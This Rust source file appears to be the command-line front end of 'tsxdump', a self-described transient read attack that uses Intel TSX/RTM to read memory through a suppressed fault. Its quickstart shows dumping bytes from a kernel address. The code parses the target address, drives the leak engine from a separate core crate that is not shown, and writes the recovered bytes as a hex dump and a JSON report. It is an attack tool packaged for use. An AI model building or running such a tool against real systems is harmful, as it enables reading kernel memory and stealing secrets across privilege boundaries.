//! # tsxdump
//!
//! Command line front end of the tsxdump transient read attack.
//!
//! ## Quickstart guide
//!
//! On an x86_64 Linux host with TSX/RTM enabled:
//!
//! ```sh
//! cargo build --release
//! # dump 64 bytes starting at a kernel address
//! target/release/tsxdump ffffffff81000000 64
//! ```
//!
//! Any other number of positional arguments runs the self-test, which recovers the
//! program's own usage text through the attack path and writes it to stderr.
//!
//! ## External Crates
//!
//! - `log` with `env_logger` for logging, bridged through `indicatif-log-bridge` so
//!   progress bars and log lines do not interleave.
//! - `clap` for argument parsing, `serde_json` and `chrono` for the JSON report.
use std::fs::File;
use std::io::{BufWriter, Write};

use indicatif::MultiProgress;
use indicatif_log_bridge::LogWrapper;
use log::info;
use serde::Serialize;
use tsxdump_core::primitives::CachePrimitives;
use tsxdump_core::{
    ByteEstimate, ByteSink, Driver, HexDump, LeakConfig, RoundStats, TargetAddress,
};

/// Embedded usage text, recovered by the self-test.
pub static USAGE: &str = "usage: tsxdump <address> <length>\nread through a suppressed fault\n";

/// Sets up `env_logger` (default level `info`) behind an indicatif log bridge.
pub fn init_logging_with_progress() -> anyhow::Result<MultiProgress> {
    let logger =
        env_logger::Builder::from_env(env_logger::Env::default().default_filter_or("info")).build();
    let progress = MultiProgress::new();
    LogWrapper::new(progress.clone(), logger).try_init()?;
    Ok(progress)
}

/// Parses a hexadecimal address with optional `0x` prefix.
pub fn parse_hex(s: &str) -> Result<usize, std::num::ParseIntError> {
    let digits = s
        .strip_prefix("0x")
        .or_else(|| s.strip_prefix("0X"))
        .unwrap_or(s);
    usize::from_str_radix(digits, 16)
}

/// Hex-dumps `length` bytes from `base` to `out`, and to a JSON report at `json`.
///
/// The report is only written once every byte has been recovered. Returns the number
/// of indeterminate bytes.
pub fn dump_range<P: CachePrimitives + ?Sized, W: Write>(
    driver: &mut Driver<'_, P>,
    base: TargetAddress,
    length: usize,
    out: W,
    json: Option<&str>,
) -> anyhow::Result<usize> {
    let mut dump = HexDump::new(out);
    let Some(path) = json else {
        return Ok(driver.run(base, length, &mut dump)?);
    };
    let mut estimates: Vec<ByteEstimate> = Vec::new();
    let indeterminate = driver.run(base, length, &mut (&mut dump, &mut estimates))?;
    let aggregator = driver.aggregator();
    DumpReport::new(
        base,
        aggregator.config().clone(),
        aggregator.stats(),
        &estimates,
    )
    .save_to_file(path)?;
    Ok(indeterminate)
}

/// [`ByteSink`] writing recovered bytes verbatim, `?` for indeterminate ones.
pub struct RawSink<W: Write>(pub W);

impl<W: Write> ByteSink for RawSink<W> {
    fn push(&mut self, _addr: TargetAddress, estimate: ByteEstimate) -> std::io::Result<()> {
        self.0.write_all(&[estimate.value().unwrap_or(b'?')])
    }

    fn finish(&mut self) -> std::io::Result<()> {
        self.0.flush()
    }
}

/// Result file of one dump, written with `--json`.
#[derive(Debug, Serialize)]
pub struct DumpReport {
    date: String,
    address: String,
    length: usize,
    config: LeakConfig,
    stats: RoundStats,
    /// Recovered bytes, `null` where indeterminate
    bytes: Vec<Option<u8>>,
}

impl DumpReport {
    /// Builds a report for `estimates` recovered from `base`.
    pub fn new(
        base: TargetAddress,
        config: LeakConfig,
        stats: RoundStats,
        estimates: &[ByteEstimate],
    ) -> Self {
        Self {
            date: chrono::Local::now().to_rfc3339(),
            address: base.to_string(),
            length: estimates.len(),
            config,
            stats,
            bytes: estimates.iter().map(ByteEstimate::value).collect(),
        }
    }

    /// Writes the report as pretty JSON.
    pub fn save_to_file(&self, filename: &str) -> anyhow::Result<()> {
        let file = File::create(filename)?;
        let mut writer = BufWriter::new(file);
        serde_json::to_writer_pretty(&mut writer, self)?;
        writer.flush()?;
        info!("Results saved to {}", filename);
        Ok(())
    }
}
